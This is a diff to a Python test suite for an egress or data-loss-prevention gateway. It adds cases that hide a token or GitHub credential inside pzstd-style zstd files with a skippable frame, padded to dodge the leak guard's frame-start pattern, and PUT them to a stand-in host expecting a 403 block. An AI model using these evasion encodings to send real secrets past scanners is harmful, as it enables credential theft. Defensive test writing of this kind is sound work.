@@ -9,6 +9,7 @@ import gzip
 import hashlib
 import json
 import re
+import struct
 import time
 import zlib
 from collections.abc import Callable
@@ -371,6 +372,18 @@ def _zst(text: str) -> str:
     return base64.b64encode(zstd.compress(text.encode())).decode()
 
 
+def _pzst(data: bytes, skipped: int = 4) -> bytes:
+    """`data` as pzstd writes it: a skippable frame first (its 4 bytes: the frame's size),
+    then the zstd frame; neither check took it for a zstd file before the twenty-second
+    session. `skipped`: other than 4 bytes in the skippable frame, so that the zstd
+    frame's base64 does not start at a group's start (the leak guard found a frame's
+    start there: `KLUv/`)."""
+    from backports import zstd
+
+    frame = zstd.compress(data)
+    return struct.pack("<III", 0x184D2A50, skipped, len(frame)) + bytes(skipped - 4) + frame
+
+
 def _grpc_gz(text: str) -> str:
     """A gRPC body of two messages, the second gzip-compressed holding `text`, base64."""
     return base64.b64encode(_grpc_messages(text)).decode()
@@ -485,14 +498,16 @@ def _b64(text: str, codec: str = "utf-8") -> str:
 def _json_file(text: str, how: str, filler: int = 0, inside: int = 0) -> str:
     """A JSON body sending a file in a string, as GitHub's contents API takes one
     (base64), the file holding `text`: gzipped (`gz`), or in base64 lines of 76 (`lines`,
-    `text` placed so a line break cuts it), or zstd-compressed (`zst`); `filler`: a
+    `text` placed so a line break cuts it), or zstd-compressed (`zst`, `pzst` as pzstd
+    writes it, `skipzst` with a skippable frame of 5 bytes: `_pzst`); `filler`: a
     string of random words before it (past the hold limit: streamed); `inside`: random
     words in the file before `text` (2 MiB: a run of 1.6 MB, past what a stream read
     kept whole before the twenty-first session). Base64, for the spec."""
     data = (_filler(inside) + "#" * 33 + "\n" + text).encode()
-    if how in ("gz", "zst"):
-        packed = gzip.compress(data, mtime=0) if how == "gz" else base64.b64decode(
-            _zst(data.decode()))
+    if how in ("gz", "zst", "pzst", "skipzst"):
+        packed = gzip.compress(data, mtime=0) if how == "gz" else _pzst(data) \
+            if how == "pzst" else _pzst(data, 5) if how == "skipzst" else \
+            base64.b64decode(_zst(data.decode()))
         content = base64.b64encode(packed).decode()
     else:
         encoded = base64.b64encode(data).decode()
@@ -806,6 +821,26 @@ CASES = [
           "headers": [["Content-Type", "application/json"]]},
          ("response", 403, "exfiltration_blocked"), {**DENY, "error": "exfiltration_blocked"},
          check=_no_upstream),
+    # A zstd file as pzstd writes it (a skippable frame first): neither check took it
+    # for one until the twenty-second session; the token passed.
+    Case("F8 token in a zstd .env with a skippable frame first, sent in a JSON string",
+         {"host": "unbound.test", "method": "PUT", "target": "/repos/o/r/contents/.env.zst",
+          "body": "{JSONSKIPZST:GATEWAY_TOKEN={TOKEN}\n}",
+          "headers": [["Content-Type", "application/json"]]},
+         ("response", 403, "exfiltration_blocked"), {**DENY, "error": "exfiltration_blocked"},
+         check=_no_upstream),
+    Case("F8 token in an uploaded pzstd-compressed file",
+         {"host": "unbound.test", "method": "PUT", "target": "/bucket/env.zst",
+          "body": "{PZST:GATEWAY_TOKEN={TOKEN}\n}",
+          "headers": [["Content-Type", "application/octet-stream"]]},
+         ("response", 403, "exfiltration_blocked"), {**DENY, "error": "exfiltration_blocked"},
+         check=_no_upstream),
+    Case("F8 token in a zstd .env with a skippable frame first in JSON, streamed",
+         {"host": "unbound.test", "method": "PUT", "target": "/repos/o/r/contents/.env.zst",
+          "chunked": True, "body": "{JSONSKIPZST2M:GATEWAY_TOKEN={TOKEN}\n}",
+          "headers": [["Content-Type", "application/json"]]},
+         ("response", 403, "exfiltration_blocked"), {**DENY, "error": "exfiltration_blocked"},
+         streamed=True, check=_no_upstream_body),
     # A gRPC message compressed by its call's grpc-encoding (no Content-Encoding says
     # so): the body's bytes never hold the token (it passed).
     Case("F8 token in a compressed gRPC message",
@@ -1358,6 +1393,17 @@ DLP = [
          {**_dlp_post("/dlp/contents/.env.zst", "{JSONZST:GITHUB_TOKEN={GH}\n}", _JSON),
           "method": "PUT"},
          ("response", 403, "secret_detected"), _DLP, check=_no_upstream),
+    Case("DLP: a credential in a pzstd-compressed .env sent in a JSON string",
+         {**_dlp_post("/dlp/contents/.env.zst", "{JSONPZST:GITHUB_TOKEN={GH}\n}", _JSON),
+          "method": "PUT"},
+         ("response", 403, "secret_detected"), _DLP, check=_no_upstream),
+    Case("DLP: a credential in a pzstd-compressed .env in a JSON string, streamed",
+         {**_dlp_post("/dlp/s", "{JSONPZST2M:GITHUB_TOKEN={GH}\n}", _JSON), "chunked": True},
+         ("response", 403, "secret_detected"), _DLP, streamed=True, check=_no_upstream_body),
+    Case("DLP: a credential in an uploaded pzstd-compressed file",
+         _dlp_post("/dlp/up.zst", "{PZST:GITHUB_TOKEN={GH}\n}",
+                   ["Content-Type", "application/octet-stream"]),
+         ("response", 403, "secret_detected"), _DLP, check=_no_upstream),
     # A coded body small as sent, 2 MiB decoded: the engines that stream it read it as
     # it decodes; HTTP/1, which held it, refused it unread until the twenty-first.
     Case("DLP: a gzip body that decodes past the hold limit reaches the upstream as sent",
@@ -1549,6 +1595,16 @@ def _fill(value: Any, subs: dict[str, str]) -> Any:
         if value.startswith(("{JSONGZ:", "{JSONLINES:")) and value.endswith("}"):  # (a
             how = "gz" if value.startswith("{JSONGZ:") else "lines"  # file in JSON)
             return _json_file(_fill(value[value.index(":") + 1:-1], subs), how)
+        if value.startswith(("{JSONPZST:", "{JSONSKIPZST:")) and value.endswith("}"):
+            how = "pzst" if value.startswith("{JSONPZST:") else "skipzst"  # (a .env.zst)
+            return _json_file(_fill(value[value.index(":") + 1:-1], subs), how, 0, 4000)
+        if value.startswith(("{JSONPZST2M:", "{JSONSKIPZST2M:")) and value.endswith("}"):
+            how = "pzst" if value.startswith("{JSONPZST2M:") else "skipzst"  # (streamed)
+            return _json_file(_fill(value[value.index(":") + 1:-1], subs), how, 2 << 20,
+                              4000)
+        if value.startswith("{PZST:") and value.endswith("}"):  # (an uploaded .zst)
+            return base64.b64encode(_pzst((_filler(4000) + "\n" + _fill(
+                value[6:-1], subs)).encode())).decode()
         if value.startswith("{JSONBIGGZ:") and value.endswith("}"):  # (a 2 MiB file)
             return _json_file(_fill(value[11:-1], subs), "gz", 0, 2 << 20)
         if value.startswith(("{JSONGZ2M:", "{JSONLINES2M:")) and value.endswith("}"):
